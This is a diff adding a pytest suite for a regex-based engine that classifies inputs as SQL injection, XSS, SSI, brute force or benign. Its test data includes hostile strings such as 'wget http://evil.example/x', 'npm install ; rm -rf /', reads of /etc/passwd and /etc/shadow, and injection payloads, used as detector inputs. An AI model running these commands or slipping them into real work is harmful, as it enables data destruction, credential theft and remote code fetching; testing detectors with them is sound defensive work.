@@ -0,0 +1,101 @@
+"""
+Compiled Heuristic Engine — Test Suite
+=======================================
+Checks that the single-scan engine in src/ml_engine/heuristic_engine.py
+returns exactly what the sequential per-pattern ``re.search`` reference
+returns, including family priority order and per-family case handling.
+
+Run:  pytest tests/test_heuristic_engine.py -v
+"""
+
+import sys
+import os
+import random
+import re
+import pytest
+
+# ── path setup ──────────────────────────────────────────────────────────────
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from src.core.models import AttackType
+from src.ml_engine.heuristic_engine import HeuristicEngine, heuristic_engine
+
+
+class TestFamilyVerdicts:
+
+    @pytest.mark.parametrize("payload,expected", [
+        ("git status", (AttackType.BENIGN, 0.0)),
+        ("LOGIN:admin", (AttackType.BENIGN, 0.0)),
+        ("<!--#exec cmd=\"ls\"-->", (AttackType.SSI, 0.90)),
+        ("{{7*7}}", (AttackType.SSI, 0.90)),
+        ("<script>alert(1)</script>", (AttackType.XSS, 0.90)),
+        ("' UNION SELECT username FROM users", (AttackType.SQLI, 0.85)),
+        ("../../etc/passwd", (AttackType.SSI, 0.90)),
+        ("ls | grep secret", (AttackType.SSI, 0.90)),
+        ("wget http://evil.example/x", (AttackType.SSI, 0.95)),
+        ('{"$ne: 1}', (AttackType.SQLI, 0.85)),
+        ('{"$NE: 1}', (AttackType.BENIGN, 0.0)),
+        ("GOPHER://internal", (AttackType.SSI, 0.85)),
+        ("<!ENTITY xxe>", (AttackType.SSI, 0.90)),
+        ("password1", (AttackType.BRUTE_FORCE, 0.75)),
+        ("hello world", (AttackType.BENIGN, 0.0)),
+    ])
+    def test_representative_payloads(self, payload, expected):
+        assert heuristic_engine.classify(payload) == expected
+        assert heuristic_engine.classify_sequential(payload) == expected
+
+    def test_higher_priority_family_wins_even_when_later_in_text(self):
+        # SQLi keyword appears first, XSS marker later — XSS has priority
+        payload = "union select 1 -- <script>"
+        assert heuristic_engine.match_family(payload) == "xss"
+
+    def test_benign_exception_overrides_threats(self):
+        assert heuristic_engine.classify("npm install ; rm -rf /") == (AttackType.BENIGN, 0.0)
+
+    def test_nosql_family_is_case_sensitive_like_before(self):
+        # NoSQL operators were never matched with IGNORECASE
+        assert heuristic_engine.classify('{"$NE: 1}') == (AttackType.BENIGN, 0.0)
+
+
+class TestParity:
+
+    def test_random_fuzz_matches_sequential_reference(self):
+        rng = random.Random(1337)
+        alphabet = "abcdefghijklmnopqrstuvwxyz<>!-#{}$%[]|&;`()'\"=.:/\\ 0123456789SELCTUNIO\n\t"
+        for _ in range(5000):
+            text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
+            assert heuristic_engine.classify(text) == heuristic_engine.classify_sequential(text), text
+
+    def test_classifier_delegates_to_engine(self):
+        from src.ml_engine.ml_classifier import classifier
+
+        for payload in ("cat /etc/shadow", "<svg onload=x>", "ls -la", "password"):
+            assert classifier.heuristic_fallback(payload) == heuristic_engine.classify(payload)
+
+
+class TestFingerprint:
+
+    def test_fingerprint_is_stable(self):
+        assert HeuristicEngine().fingerprint == heuristic_engine.fingerprint
+
+    def test_fingerprint_changes_with_pattern_set(self):
+        engine = HeuristicEngine(benign_patterns=(r"ls\s+-la",))
+        assert engine.fingerprint != heuristic_engine.fingerprint
+
+    def test_load_recompiles_and_refingerprints(self):
+        engine = HeuristicEngine()
+        before = engine.fingerprint
+        engine.load(benign_patterns=engine.benign_patterns + (r"etc/shadow",))
+        assert engine.fingerprint != before
+        assert engine.classify("cat /etc/shadow") == (AttackType.BENIGN, 0.0)
+
+        engine.load()
+        assert engine.fingerprint == before
+        assert engine.classify("cat /etc/shadow") == heuristic_engine.classify("cat /etc/shadow")
+
+    def test_invalid_load_keeps_current_set(self):
+        engine = HeuristicEngine()
+        before = engine.fingerprint
+        with pytest.raises(re.error):
+            engine.load(benign_patterns=("(",))
+        assert engine.fingerprint == before